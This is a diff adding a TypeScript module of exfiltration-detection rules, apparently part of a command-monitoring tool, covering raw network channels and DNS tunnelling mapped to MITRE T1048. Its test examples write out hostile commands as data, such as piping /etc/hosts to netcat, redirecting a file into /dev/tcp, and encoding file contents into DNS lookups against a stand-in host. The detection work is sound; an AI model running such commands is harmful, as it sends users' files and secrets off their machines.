@@ -1,0 +1,45 @@
+/**
+ * exfiltration over channels other than an HTTP upload (those are in persistence.ts): what a
+ * command sends to which host, asked of the effects model (`sendsOf`: netcat, /dev/tcp, scp,
+ * rsync, ssh, ftp, smb, mail, DNS). Techniques: https://attack.mitre.org/techniques/T1048/.
+ */
+import type { Rule } from '../rule.js';
+import { sendsOf, type Send } from '../effects/index.js';
+
+/** localhost, 127/8, ::1, 0.0.0.0 and the Docker host alias: not another host. */
+export function isLoopbackHost(host: string): boolean {
+  return /^(?:localhost|localhost\.localdomain|127(?:\.\d+){3}|\[::1\]|::1|0\.0\.0\.0|host\.docker\.internal)$/.test(host);
+}
+
+const remoteSends = (sends: Send[]) => sends.filter((s) => !isLoopbackHost(s.host));
+
+export const EXFIL_RULES: Rule[] = [
+  {
+    id: 'file-sent-to-host',
+    name: 'Local file sent over the network',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1048',
+    description: 'A local file or piped data sent to another host over a raw channel: nc/ncat/socat/telnet, a redirect into /dev/tcp/HOST/PORT, scp/sftp/rsync to a remote destination, ssh HOST fed a file, ftp/tftp/smbclient put, openssl s_client, mail with an attachment.',
+    help: 'Moves data off the machine outside the usual tooling. Check the file and the host.',
+    examples: {
+      match: ['nc x.example 4444 < /etc/hosts', "bash -c 'cat notes.txt > /dev/tcp/x.example/443'", 'scp ./dump.sql user@x.example:', "ssh x.example 'cat > x' < data.tar", 'rsync -r ./dir x.example:'],
+      not_match: ['scp user@x.example:/tmp/log.txt .', 'nc -zv db.internal 5432', 'rsync -a ./src/ ./backup/', 'echo PING | nc -q1 localhost 6379'],
+    },
+    match: { command: (c) => remoteSends(sendsOf(c)).some((s) => s.channel !== 'http' && s.channel !== 'dns' && (s.files.length > 0 || s.stdin)) },
+  },
+  {
+    id: 'dns-exfil',
+    name: 'Data sent in DNS lookups',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1048.003',
+    description: 'A DNS lookup (dig, nslookup, host, drill) whose query name is built from command output or a variable, or carries a long encoded label: data leaves in the name itself.',
+    help: 'DNS passes most egress filters; every lookup of such a name delivers its data to the domain owner.',
+    examples: {
+      match: ['dig $(cat /etc/hostname | base64).x.example', 'for l in $(cat s.txt); do nslookup $l.x.example; done', 'host aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgZW5jb2RlZCBsYWJlbA.x.example'],
+      not_match: ['dig example.com', 'nslookup github.com 8.8.8.8', 'host -t mx example.org'],
+    },
+    match: { command: (c) => sendsOf(c).some((s) => s.channel === 'dns') },
+  },
+];
